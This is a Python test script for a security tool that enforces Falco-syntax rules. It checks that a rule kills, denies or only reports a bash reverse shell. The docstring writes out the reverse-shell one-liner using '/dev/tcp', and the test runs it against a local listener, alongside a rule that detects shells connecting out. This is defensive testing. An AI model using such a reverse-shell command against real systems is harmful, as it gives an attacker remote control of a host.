#!/usr/bin/env python3
"""check_acting_rules.py - a Falco-syntax rule with `action: kill` stops a
reverse shell in the kernel; with --audit it only reports.

The reverse shell is the classic `bash -i >& /dev/tcp/HOST/PORT 0>&1`: a
bash that connects out, makes the connection its stdin, stdout and stderr,
and runs what the listener sends. The rule is "a shell binary connects":
evt.type = connect and proc.exepath in (...), compiled into a sys_connect
hook with matchBinaries and Sigkill. The shell binary is a copy of bash at
a path this test makes, so the rule touches nothing else on the host.

enforce: the shell is killed by SIGKILL at its connect, the listener gets
no command output, and the rule's alert says vigil.action=killed.
name:    the same with the rule on proc.name (the process's comm, which the
kernel keeps per process from its exec) instead of proc.exepath.
deny:    the rule on proc.name with `action: deny` and the listener's port
(fd.sport): connect fails with EPERM at the cgroup connect hook, the
listener sees no connection, the shell is not killed; vigil.action=denied.
audit:   the shell runs the listener's command (its output arrives), and the
alert says vigil.action=would kill.

usage: check_acting_rules.py VIGIL enforce|audit|name|deny"""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import livelib  # noqa: E402

RULE = """- rule: Shell connects out
  desc: a shell binary opens a network connection (a reverse shell)
  condition: evt.type = connect and evt.dir = > and {test} and container.id = host
  output: Shell connected out (proc.name=%proc.name proc.pid=%proc.pid proc.exepath=%proc.exepath)
  priority: CRITICAL
  tags: [vigil_test]
  action: {action}
"""


def listen(srv, nonce, got):
    """Accept the shell, send it one command, collect what comes back."""
    srv.settimeout(20)
    try:
        c, _ = srv.accept()
    except OSError:
        return
    got["connected"] = True
    c.settimeout(10)
    try:
        c.sendall(("echo out-$((6*7))-%s\nexit\n" % nonce).encode())
    except OSError:
        pass
    data = b""
    try:
        while True:
            b = c.recv(4096)
            if not b:
                break
            data += b
    except OSError:
        pass
    got["data"] = data.decode("utf-8", "replace")
    c.close()


def main():
    livelib.require_root()
    vigil, mode = sys.argv[1], sys.argv[2]
    nonce = uuid.uuid4().hex[:8]
    tmp = tempfile.mkdtemp(prefix="vigil-act-")
    v = None
    fails = []
    try:
        name = "rsh-" + nonce     # a comm: at most 15 bytes
        shell = os.path.join(tmp, name)
        shutil.copy2(shutil.which("bash"), shell)
        rules = os.path.join(tmp, "act.yaml")
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        port = srv.getsockname()[1]
        test = "proc.exepath in (%s)" % shell
        if mode == "name":
            test = "proc.name = %s" % name
        elif mode == "deny":
            test = "proc.name = %s and fd.sport = %d" % (name, port)
        with open(rules, "w") as f:
            f.write(RULE.format(test=test, action="deny" if mode == "deny" else "kill"))
        chk = subprocess.run([vigil, "rules", "check", rules], capture_output=True, text=True)
        want_sel = "process name (comm) In %s" % name if mode in ("name", "deny") else "matchBinaries In %s" % shell
        want_act = "Override argError -1" if mode == "deny" else "Sigkill"
        if chk.returncode != 0 or want_sel not in chk.stdout or want_act not in chk.stdout:
            print("FAIL: rules check does not show the compiled rule:\n%s\n%s" % (chk.stdout, chk.stderr))
            return 1
        argv = [vigil, "run", "-r", rules, "-o", "json_output=true", "--stats",
                "--policy-events", os.path.join(tmp, "pevents.json")]
        if mode == "audit":
            argv.append("--audit")
        v = livelib.Vigil(argv)
        if not v.wait_ready():
            print("FAIL: " + livelib.start_failure(v))
            return 1
        got = {}
        t = threading.Thread(target=listen, args=(srv, nonce, got), daemon=True)
        t.start()
        p = subprocess.run([shell, "-c", "exec %s -i >& /dev/tcp/127.0.0.1/%d 0>&1" % (shell, port)],
                           stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=30)
        if mode == "deny":
            time.sleep(1)   # a connection that got through would be accepted by now
            try:
                srv.shutdown(socket.SHUT_RDWR)  # wakes accept()
            except OSError:
                pass
        t.join(25)
        srv.close()
        want = "out-42-%s" % nonce
        data = got.get("data", "")

        def alert(lines):
            for line in lines:
                try:
                    a = json.loads(line)
                except ValueError:
                    continue
                if a.get("rule") == "Shell connects out" and a.get("output_fields", {}).get("proc.exepath") == shell:
                    return a
            return None

        a = v.wait_for(alert, 20)
        if mode == "deny":
            if p.returncode in (-9, 0) or b"Operation not permitted" not in p.stderr:
                fails.append("the shell's connect was not denied with EPERM: status %s, stderr %r" %
                             (p.returncode, p.stderr))
            if got.get("connected"):
                fails.append("the listener got a connection")
        elif mode != "audit":
            if p.returncode != -9:
                fails.append("the shell was not killed by SIGKILL: status %s, stderr %r" % (p.returncode, p.stderr))
            if want in data:
                fails.append("the listener received the command's output: %r" % data)
        else:
            if p.returncode == -9:
                fails.append("audit mode killed the shell")
            if want not in data:
                fails.append("audit mode: the shell did not run the command (listener got %r, shell status %s)" %
                             (data, p.returncode))
        expect = {"audit": "would kill", "deny": "denied"}.get(mode, "killed")
        if not a:
            fails.append("no alert of the rule for %s" % shell)
        else:
            of = a["output_fields"]
            if of.get("vigil.action") != expect:
                fails.append("alert vigil.action is %r, not %r: %s" % (of.get("vigil.action"), expect, a))
            if "vigil.action=%s" % expect not in a.get("output", ""):
                fails.append("alert output does not say vigil.action=%s: %s" % (expect, a.get("output")))
            if a.get("priority") != "Critical":
                fails.append("alert priority %r" % a.get("priority"))
        rc = v.stop()
        v = None
        if rc != 0:
            fails.append("vigil exited with %s" % rc)
        # the Tetragon event of the hook the rule compiled into
        evs = []
        with open(os.path.join(tmp, "pevents.json")) as f:
            for line in f:
                e = json.loads(line)
                k = e.get("process_kprobe", {})
                if k.get("process", {}).get("binary") == shell:
                    evs.append(k)
        if not evs:
            fails.append("no process_kprobe event for the shell's connect")
        elif not any(k.get("function_name", "").endswith("sys_connect") and
                     k.get("action") == ("KPROBE_ACTION_OVERRIDE" if mode == "deny" else "KPROBE_ACTION_SIGKILL")
                     for k in evs):
            fails.append("the policy event does not report sys_connect and the action: %s" % evs[0])
    finally:
        if v:
            v.stop()
        shutil.rmtree(tmp, ignore_errors=True)
    for f in fails:
        print("FAIL: " + f)
    if not fails:
        print("ok: %s: %s" % (mode, {"audit": "shell ran, alert says it would have been killed",
                                     "deny": "connect denied (EPERM), no connection, alert says denied"}
                              .get(mode, "shell killed at connect, no command output")))
    return 1 if fails else 0


if __name__ == "__main__":
    sys.exit(main())
